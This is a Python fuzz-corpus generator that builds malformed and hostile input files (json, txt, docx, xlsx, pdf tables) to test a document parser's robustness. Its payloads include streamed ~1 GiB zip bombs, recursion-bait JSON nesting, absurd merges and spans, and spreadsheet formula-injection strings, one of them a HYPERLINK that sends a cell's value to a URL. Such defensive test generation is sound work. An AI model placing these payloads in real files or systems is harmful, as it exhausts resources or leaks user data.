"""Bad and hostile input files, generated on demand (nothing binary is committed).

    from fuzz_corpus import generate, good_files
    bad = generate(root, 60, seed=0)   # n bad files, every kind once n >= len(VARIANTS)
    good = good_files(root, 475)       # n valid one-table files, json/txt/docx/xlsx in turn

Every bad file starts from a good table of the seed library written by jixiao's own writers, then
is broken in one way: cut short, bytes flipped, a zip bomb, an absurd span or merge, a formula,
a hostile string, a strange encoding, a name full of console markup, a PDF of 200,000 lines, or
simply empty. Each file's name says its kind: `0007_byte_flip.docx`.

Generation is deterministic for a seed and stays fast and light: the zip bombs are streamed in
chunks (about 1 GiB inflated, a few MB on disk, built once per process and then copied), the
200,000-row sheet and the PDF are written as XML and PDF text directly, and the good tables are
written once per seed table as templates whose strings are substituted afterwards.
"""

from __future__ import annotations

import io
import json
import random
import re
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

from jixiao.model import Table, Value
from jixiao.seed import load_seed

BOMB_SIZE = 1 << 30  # bytes a zip bomb's member inflates to
HUGE_SPAN = 300_000_000
MANY_ROWS = 200_000
PDF_LINES = 200_000
NEST_DEPTH = 200_000

FORMULAS = ['=HYPERLINK("http://x?y="&B2,"详情")', "+1", "-1", "@SUM(A1)", "=1+1"]
HUGE_VALUE = "≤99999999999999999999999999999万元/月"
CONTROL = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r") + "\x7f"
EMPTY_SUFFIXES = (".txt", ".text", ".docx", ".xlsx", ".xlsm", ".json", ".pdf")
EMPTY_SUFFIXES += (".doc", ".xls", ".wps", ".et")

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHEET = "xl/worksheets/sheet1.xml"
_DOC = "word/document.xml"

# --- good tables as templates -------------------------------------------------------------

# Strings a template holds in place of the table's own, so any of them can be swapped for a
# hostile one after the writers have run (and whatever the writers come to escape).
PROJECT = "QQPROJECTQQ"
NAMES = [f"QQNAME{k}QQ" for k in range(4)]
VALUE = "QQVALUEQQ"


@dataclass
class Template:
    """One seed table written in one format, its strings replaced by placeholders."""

    data: bytes
    originals: dict[str, str] = field(default_factory=dict)


def _placeholder_table(index: int) -> tuple[Table, dict[str, str]]:
    seed = load_seed()
    t = seed[index % len(seed)]
    originals = {PROJECT: t.project}
    t.title = f"{PROJECT}绩效目标表" if t.title else ""
    t.project = PROJECT
    # No provenance of the seed's: a JSON file then names itself in what is read from it.
    t.source = None
    for ind in t.indicators:
        ind.source = None
    for name, ind in zip(NAMES, t.indicators, strict=False):
        originals[name] = ind.name
        ind.name = name
    first = t.indicators[0]
    originals[VALUE] = first.value.raw
    first.value = Value.model_validate(first.value.model_dump() | {"raw": VALUE})
    return t, originals


@cache
def _template(fmt: str, index: int) -> Template:
    from jixiao.writers import docx, text, xlsx
    from jixiao.writers import json as json_writer

    writers = {"json": json_writer, "txt": text, "docx": docx, "xlsx": xlsx}
    if fmt == "pdf":
        seed = load_seed()
        return Template(_reportlab_pdf(seed[index % len(seed)]), {})
    table, originals = _placeholder_table(index)
    with tempfile.TemporaryDirectory() as tmp:
        path = writers[fmt].write([table], Path(tmp) / f"t.{fmt}")
        data = path.read_bytes()
    if fmt == "xlsx":  # the sheet's name was made from the project: give it a plain one
        data = _rezip(data, {"xl/workbook.xml": lambda x: x.replace(PROJECT.encode(), b"sheet")})
    return Template(data, originals)


def render(
    fmt: str,
    index: int,
    subs: dict[str, str] | None = None,
    encoding: str = "utf-8",
    json_raw: bool = False,
) -> bytes:
    """The seed table `index` as a file of `fmt` with placeholders replaced by `subs` (the
    table's own strings for the rest). `json_raw`: `subs` are JSON source text, not strings."""
    tpl = _template(fmt, index)
    values = tpl.originals | (subs or {})
    if fmt == "txt":
        text = tpl.data.decode("utf-8")
        for key, value in values.items():
            text = text.replace(key, value)
        return text.encode(encoding, errors="surrogatepass")
    if fmt == "json":
        text = tpl.data.decode("utf-8")
        for key, value in values.items():
            raw = value if json_raw and key in (subs or {}) else json.dumps(value)[1:-1]
            text = text.replace(key, raw)
        return text.encode("utf-8")
    if fmt in ("docx", "xlsx"):
        part = _DOC if fmt == "docx" else _SHEET

        def swap(xml: bytes) -> bytes:
            text = xml.decode("utf-8")
            for key, value in values.items():
                text = text.replace(key, escape(value))
            return text.encode("utf-8")

        return _rezip(tpl.data, {part: swap})
    return tpl.data


def _rezip(
    data: bytes,
    edit: dict[str, Callable[[bytes], bytes] | None],
    add: dict[str, bytes] | None = None,
) -> bytes:
    """The zip `data` with members edited (a function of their bytes) or dropped (None)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            blob = src.read(info)
            if info.filename in edit:
                fn = edit[info.filename]
                if fn is None:
                    continue
                blob = fn(blob)
            dst.writestr(info, blob)
        for name, blob in (add or {}).items():
            dst.writestr(name, blob)
    return out.getvalue()


def _reportlab_pdf(table: Table) -> bytes:
    """A text PDF of one table, as the PDF test draws them (reportlab is a test dependency)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.platypus import Paragraph, SimpleDocTemplate
    from reportlab.platypus import Table as Grid

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    style = ParagraphStyle("zh", fontName="STSong-Light", fontSize=9, leading=12)
    rows = [
        ["项目名称", table.project, "", "", ""],
        ["预算数", f"{table.budget_total:.2f}", "", "", ""],
        ["一级指标", "二级指标", "三级指标", "绩效指标描述", "指标值"],
    ]
    rows += [[i.level1, i.level2, i.name, i.description, i.value.raw] for i in table.indicators]
    grid = Grid([[Paragraph(c, style) for c in row] for row in rows])
    grid.setStyle([("GRID", (0, 0), (-1, -1), 0.5, "black")])
    out = io.BytesIO()
    SimpleDocTemplate(out, pagesize=A4).build([Paragraph(table.title, style), grid])
    return out.getvalue()


# --- the kinds ------------------------------------------------------------------------------


@dataclass
class Ctx:
    """What a kind gets: the random source, the seed table to start from, the file's stem."""

    rng: random.Random
    index: int
    root: Path
    stem: str  # e.g. "0007_byte_flip"


def truncated(ctx: Ctx, fmt: str) -> Path:
    data = render(fmt, ctx.index)
    cut = ctx.rng.randrange(1, len(data))
    return _write(ctx, fmt, data[:cut])


def byte_flip(ctx: Ctx, fmt: str) -> Path:
    data = bytearray(render(fmt, ctx.index))
    for _ in range(ctx.rng.randint(1, 16)):
        i = ctx.rng.randrange(len(data))
        data[i] ^= ctx.rng.randint(1, 255)
    return _write(ctx, fmt, bytes(data))


def zip_bomb(ctx: Ctx, fmt: str) -> Path:
    """A .docx whose document.xml, or a .xlsx whose sharedStrings.xml, inflates to ~1 GiB."""
    path = ctx.root / f"{ctx.stem}.{fmt}"
    path.write_bytes(_bomb(fmt))
    return path


@cache
def _bomb(fmt: str) -> bytes:
    good = zipfile.ZipFile(io.BytesIO(render(fmt, 0)))
    if fmt == "docx":
        part = _DOC
        head = good.read(_DOC).split(b"<w:body>")[0] + b"<w:body>"
        unit = "<w:p><w:r><w:t>" + "绩效目标表项目名称预算数" * 80 + "</w:t></w:r></w:p>"
        tail = b"</w:body></w:document>"
    else:
        part = "xl/sharedStrings.xml"
        head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}">'.encode()
        unit = "<si><t>" + "绩效目标表项目名称预算数" * 80 + "</t></si>"
        tail = b"</sst>"
    chunk = (unit * 64).encode("utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for info in good.infolist():
            if info.filename != part:
                z.writestr(info, _add_shared_strings(info.filename, good.read(info)))
        with z.open(part, "w", force_zip64=True) as member:
            member.write(head)
            written = len(head)
            while written < BOMB_SIZE:
                member.write(chunk)
                written += len(chunk)
            member.write(tail)
    return out.getvalue()


def _add_shared_strings(name: str, blob: bytes) -> bytes:
    """Declare xl/sharedStrings.xml in the package, as Excel would."""
    if name == "[Content_Types].xml":
        override = (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
        return blob.replace(b"</Types>", override.encode() + b"</Types>")
    if name == "xl/_rels/workbook.xml.rels":
        rel = (
            '<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        )
        return blob.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return blob


def huge_grid_span(ctx: Ctx, fmt: str) -> Path:
    def edit(xml: bytes) -> bytes:
        span = f'<w:gridSpan w:val="{HUGE_SPAN}"/>'.encode()
        return re.sub(rb'<w:gridSpan w:val="\d+"/>', span, xml, count=1)

    return _write(ctx, fmt, _rezip(render("docx", ctx.index), {_DOC: edit}))


def huge_grid_before(ctx: Ctx, fmt: str) -> Path:
    before = f'<w:gridBefore w:val="{HUGE_SPAN}"/>'.encode()

    def edit(xml: bytes) -> bytes:
        m = re.search(rb"<w:tr(?:\s[^>]*)?>", xml)
        assert m, "the writer's table has no row"
        at = m.end()
        if xml[at:].startswith(b"<w:trPr>"):
            return xml[: at + 8] + before + xml[at + 8 :]
        return xml[:at] + b"<w:trPr>" + before + b"</w:trPr>" + xml[at:]

    return _write(ctx, fmt, _rezip(render("docx", ctx.index), {_DOC: edit}))


def _sheet_edit(ctx: Ctx, edit: Callable[[str], str], fmt: str = "xlsx") -> Path:
    def swap(xml: bytes) -> bytes:
        return edit(xml.decode("utf-8")).encode("utf-8")

    return _write(ctx, fmt, _rezip(render("xlsx", ctx.index), {_SHEET: swap}))


_FAR_ROW = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远处的单元格</t></is></c></row>'
_HUGE_MERGE = '<mergeCell ref="A3:XFD1048576"/>'


def far_cell(ctx: Ctx, fmt: str) -> Path:
    return _sheet_edit(ctx, lambda x: x.replace("</sheetData>", _FAR_ROW + "</sheetData>"))


def huge_merge(ctx: Ctx, fmt: str) -> Path:
    return _sheet_edit(ctx, lambda x: x.replace("</mergeCells>", _HUGE_MERGE + "</mergeCells>"))


def merge_far_cell(ctx: Ctx, fmt: str) -> Path:
    """The merge A3:XFD1048576 with a cell at its far corner: 17 billion cells if filled."""

    def edit(xml: str) -> str:
        xml = xml.replace("</sheetData>", _FAR_ROW + "</sheetData>")
        return xml.replace("</mergeCells>", _HUGE_MERGE + "</mergeCells>")

    return _sheet_edit(ctx, edit)


def many_rows(ctx: Ctx, fmt: str) -> Path:
    """200,000 indicator rows below the table's own, written as sheet XML directly."""

    def edit(xml: str) -> str:
        last = max(int(n) for n in re.findall(r'<row r="(\d+)"', xml))
        parts = []
        for r in range(last + 1, last + 1 + MANY_ROWS):
            cells = ("产出指标", "数量指标", f"指标{r}", f"描述{r}", f"≥{r}人")
            parts.append(
                f'<row r="{r}">'
                + "".join(
                    f'<c r="{col}{r}" t="inlineStr"><is><t>{text}</t></is></c>'
                    for col, text in zip("ABCDE", cells, strict=True)
                )
                + "</row>"
            )
        return xml.replace("</sheetData>", "".join(parts) + "</sheetData>")

    return _sheet_edit(ctx, edit)


def missing_sheet(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, fmt, _rezip(render("xlsx", ctx.index), {_SHEET: None}))


def formula_no_cache(ctx: Ctx, fmt: str) -> Path:
    """The budget and a value as formulas never calculated: `<c r="C4"><f>100000*2</f></c>`."""

    def edit(xml: str) -> str:
        first = int(re.findall(r'<row r="(\d+)"', xml)[7])  # the first indicator row
        for ref, formula in (("C4", "100000*2"), (f"E{first}", "1/0"), ("B5", "100000*2")):
            cell = f'<c r="{ref}"><f>{formula}</f></c>'
            xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', cell, xml, count=1)
            if not n:
                xml = re.sub(rf'(<row r="{ref[1:]}"[^>]*>)', rf"\1{cell}", xml, count=1)
        return xml

    return _sheet_edit(ctx, edit)


def formula_injection(ctx: Ctx, fmt: str) -> Path:
    """Project and indicator names a spreadsheet would run: `=HYPERLINK(...)`, `+1`, `@SUM`."""
    subs = {PROJECT: FORMULAS[0]} | dict(zip(NAMES, FORMULAS[1:], strict=True))
    return _write(ctx, fmt, render(fmt, ctx.index, subs))


def lone_surrogate(ctx: Ctx, fmt: str) -> Path:
    subs = {PROJECT: "项目\\ud800名称", NAMES[0]: "指标\\udfff"}
    return _write(ctx, fmt, render("json", ctx.index, subs, json_raw=True))


def _json_edit(ctx: Ctx, edit: Callable[[list], None]) -> Path:
    doc = json.loads(render("json", ctx.index))
    edit(doc)
    return _write(ctx, "json", json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8"))


def huge_exponent(ctx: Ctx, fmt: str) -> Path:
    def edit(doc: list) -> None:
        value = doc[0]["indicators"][0]["value"]
        value.update(number="1e999999", unit="万元", comparator="≤", kind="quantitative")
        doc[0]["indicators"][1]["weight"] = "-1e-999999"

    return _json_edit(ctx, edit)


def huge_int(ctx: Ctx, fmt: str) -> Path:
    """A 400-digit budget and year: valid JSON, valid Python ints, absurd amounts."""
    data = render("json", ctx.index).decode("utf-8")
    big = "9" * 400
    data = re.sub(r'"budget_total": "[^"]*"', f'"budget_total": {big}', data, count=1)
    data = data.replace('"year": null', f'"year": {big}', 1)
    return _write(ctx, "json", data.encode("utf-8"))


def int_digits_limit(ctx: Ctx, fmt: str) -> Path:
    """An integer longer than Python's int-from-string limit (4,300 digits): a ValueError."""
    data = render("json", ctx.index).decode("utf-8")
    data = re.sub(r'"budget_total": "[^"]*"', f'"budget_total": {"7" * 5000}', data, count=1)
    return _write(ctx, "json", data.encode("utf-8"))


def empty_object(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, "json", b"{}")


def empty_list(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, "json", b"[]")


def deep_nesting(ctx: Ctx, fmt: str) -> Path:
    """Arrays nested 200,000 deep, at the top or inside a table: RecursionError bait."""
    nest = "[" * NEST_DEPTH + "]" * NEST_DEPTH
    docs = [nest, '{"tables": [{"goals": ' + nest + "}]}", '{"project": {"a": ' + nest + "}}"]
    return _write(ctx, "json", ctx.rng.choice(docs).encode())


_WRONG = [
    "null",
    "true",
    "12345",
    '"一张表"',
    '{"tables": "abc"}',
    '{"tables": [1, 2, 3]}',
    "[null]",
    '[{"project": 5, "indicators": "x"}]',
    '[{"project": "p", "indicators": [{"value": "≥1"}]}]',
    '[{"project": "p", "budget_total": NaN}]',
    '[{"project": "p", "budget_total": Infinity}]',
    '[{"project": "p", "budget_total": "-Infinity"}]',
    '[{"project": "p", "year": "二〇二四"}]',
    '[{"project": "p", "money_unit": "美元"}]',
    '[{"project": "p", "goals": {"a": 1}}]',
    '{"tables": [{"project": "p", "source": {"file": 7}}]}',
    '[{"project": "p", "indicators": [{"value": {"raw": "≥1", "number": [1]}}]}]',
]


def wrong_types(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, "json", ctx.rng.choice(_WRONG).encode("utf-8"))


def huge_value(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, fmt, render(fmt, ctx.index, {VALUE: HUGE_VALUE}))


def control_chars(ctx: Ctx, fmt: str) -> Path:
    """\\x00-\\x1f and \\x7f inside cells (an ANSI colour escape too); JSON carries \\u0000."""
    chars = ("\x00" if fmt == "json" else "") + CONTROL
    subs = {PROJECT: f"项目{chars}名称", NAMES[0]: "指标\x1b[31m红\x1b[0m", VALUE: "≥\x0c90\x0b%"}
    return _write(ctx, fmt, render(fmt, ctx.index, subs))


def utf16_no_bom(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, "txt", render("txt", ctx.index, encoding="utf-16-le"))


def gb18030(ctx: Ctx, fmt: str) -> Path:
    return _write(ctx, "txt", render("txt", ctx.index, encoding="gb18030"))


def invalid_utf8(ctx: Ctx, fmt: str) -> Path:
    """Bytes no UTF-8 decoder takes, in the middle of the project's name."""
    data = render("txt", ctx.index)
    bad = ctx.rng.choice([b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xff", b"\x80"])
    project = _template("txt", ctx.index).originals[PROJECT].encode("utf-8")
    at = data.index(project) + len(project) // 2 // 3 * 3  # between two characters
    return _write(ctx, "txt", data[:at] + bad + data[at:])


def markup_name(ctx: Ctx, fmt: str) -> Path:
    """Console markup in the path, with content that cannot be read, so the name is printed."""
    if fmt == "txt":
        path = ctx.root / f"{ctx.stem}_dir[" / "]x.txt"  # the path reads `…dir[/]x.txt`
        data = "[bold]没有表[/bold]\n[/]\n[link=http://x]说明[/link]\n".encode()  # no table
    else:
        path = ctx.root / f"{ctx.stem}_[bold]red.xlsx"
        data = b"[red]not a zip[/red]\n"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def pdf_many_lines(ctx: Ctx, fmt: str) -> Path:
    """One page, a line of text and 200,000 line operators (a grid drawn over and over)."""
    ops = ["BT /F1 12 Tf 50 810 Td (Xiangmu mingcheng) Tj ET", "0.5 w"]
    for i in range(PDF_LINES):
        k = (i // 2) % 390
        if i % 2:
            ops.append(f"20 {20 + 2 * k} m 575 {20 + 2 * k} l S")
        else:
            ops.append(f"{20 + (k % 277) * 2} 20 m {20 + (k % 277) * 2} 800 l S")
    return _write(ctx, "pdf", _pdf("\n".join(ops).encode("ascii")))


def _pdf(content: bytes) -> bytes:
    """A one-page PDF around a content stream, FlateDecode'd, with a correct xref table."""
    stream = zlib.compress(content, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def empty(ctx: Ctx, fmt: str) -> Path:
    path = ctx.root / f"{ctx.stem}{fmt}"  # fmt is the whole suffix here
    path.write_bytes(b"")
    return path


def _write(ctx: Ctx, fmt: str, data: bytes) -> Path:
    path = ctx.root / f"{ctx.stem}.{fmt}"
    path.write_bytes(data)
    return path


Kind = Callable[[Ctx, str], Path]
FORMATS = ("json", "txt", "docx", "xlsx", "pdf")

# Every variant once: (kind, format). `generate` deals them out in shuffled rounds.
VARIANTS: list[tuple[Kind, str]] = [
    *((truncated, f) for f in FORMATS),
    *((byte_flip, f) for f in FORMATS),
    (zip_bomb, "docx"),
    (zip_bomb, "xlsx"),
    (huge_grid_span, "docx"),
    (huge_grid_before, "docx"),
    (far_cell, "xlsx"),
    (huge_merge, "xlsx"),
    (merge_far_cell, "xlsx"),
    (many_rows, "xlsx"),
    (missing_sheet, "xlsx"),
    (formula_no_cache, "xlsx"),
    *((formula_injection, f) for f in ("xlsx", "docx", "txt", "json")),
    (lone_surrogate, "json"),
    (huge_exponent, "json"),
    (huge_int, "json"),
    (int_digits_limit, "json"),
    (empty_object, "json"),
    (empty_list, "json"),
    (deep_nesting, "json"),
    (wrong_types, "json"),
    (huge_value, "txt"),
    (huge_value, "xlsx"),
    (control_chars, "txt"),
    (control_chars, "json"),
    (utf16_no_bom, "txt"),
    (gb18030, "txt"),
    (invalid_utf8, "txt"),
    (markup_name, "txt"),
    (markup_name, "xlsx"),
    (pdf_many_lines, "pdf"),
    *((empty, s) for s in EMPTY_SUFFIXES),
]
KINDS = sorted({kind.__name__ for kind, _ in VARIANTS})


def generate(root: Path, n: int, seed: int = 0) -> list[Path]:
    """Write `n` bad or hostile files into `root`; every variant appears once n ≥ len(VARIANTS).

    The variants are dealt in rounds, each round a shuffle of all of them, so any n covers as
    many different kinds as it can. The same (n, seed) gives the same files.
    """
    root.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    order: list[tuple[Kind, str]] = []
    while len(order) < n:
        round_ = list(VARIANTS)
        rng.shuffle(round_)
        order += round_
    paths = []
    for i, (kind, fmt) in enumerate(order[:n]):
        stem = f"{i:04d}_{kind.__name__}"
        ctx = Ctx(rng=random.Random(rng.random()), index=rng.randrange(14), root=root, stem=stem)
        paths.append(kind(ctx, fmt))
    return paths


def kind_of(path: Path) -> str:
    """The kind a generated file's name says: `0007_byte_flip.docx` → `byte_flip`."""
    for part in (path.name, path.parent.name):
        m = re.match(r"\d{4}_([a-z0-9_]+?)(?:_dir\[|_\[|\.|$)", part)
        if m and m[1] in KINDS:
            return m[1]
    return "good"


def good_files(root: Path, n: int) -> list[Path]:
    """Write `n` valid one-table files (json, txt, docx, xlsx in turn), each its own project."""
    root.mkdir(parents=True, exist_ok=True)
    formats = ("json", "txt", "docx", "xlsx")
    paths = []
    for i in range(n):
        fmt, index = formats[i % len(formats)], i % 14
        original = _template(fmt, index).originals[PROJECT]
        path = root / f"good_{i:04d}.{fmt}"
        path.write_bytes(render(fmt, index, {PROJECT: f"{original}（样本{i:04d}）"}))
        paths.append(path)
    return paths
